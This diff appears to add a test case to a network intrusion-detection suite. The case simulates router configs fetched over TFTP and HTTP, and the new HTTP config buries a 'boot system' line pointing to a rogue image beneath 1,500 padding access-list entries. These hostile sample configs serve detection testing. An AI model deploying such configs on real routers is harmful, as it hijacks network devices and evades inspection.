@@ -216,6 +216,7 @@ def bw08_behind_banners(wire: Wire) -> None:
 
 RARER = [
     *(("BW08", rule, f"10.0.1.{last}", BOOT_SERVER) for last, rule in ((61, 7), (63, 1542007791), (64, 1542007793))),
+    ("BW08", 1542007794, BOOT_SERVER, "10.0.1.66"),
 ]
 
 
@@ -231,11 +232,12 @@ RARER = [
             served(61, "access61.cfg"),
             served(63, "boot-config"),
             served(64, "edge64-confg"),
+            served(66, "/edge66-confg"),
         )
     ),
 )
 def bw08_in_rarer_ways(wire: Wire) -> None:
-    """Backups hold other vendors' and the shortest lines; one that is read asks the network."""
+    """Backups hold other vendors' and the shortest lines; one asks the network, and a long one comes by HTTP."""
     short = f"version 15.7\nhostname edge\n!\nbo sy tf evil.bin {ROGUE}\n!\nend\n".encode()
     asks = b"version 15.7\nhostname edge\n!\nservice config\n!\nend\n"
     for last, name, text in (
@@ -246,3 +248,6 @@ def bw08_in_rarer_ways(wire: Wire) -> None:
     ):
         tftp.write(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)
     tftp.read(wire, "10.0.1.65", BOOT_SERVER, "edge65-confg", asks, client_port=50065)
+    many = (f"access-list 101 permit tcp host 10.9.{n // 250}.{n % 250} any eq 443" for n in range(1500))
+    text = config("edge66", (*many, f"boot system {EVIL}"))
+    http.get(wire, "10.0.1.66", BOOT_SERVER, "/edge66-confg", text, kind="text/plain", client_port=50066)
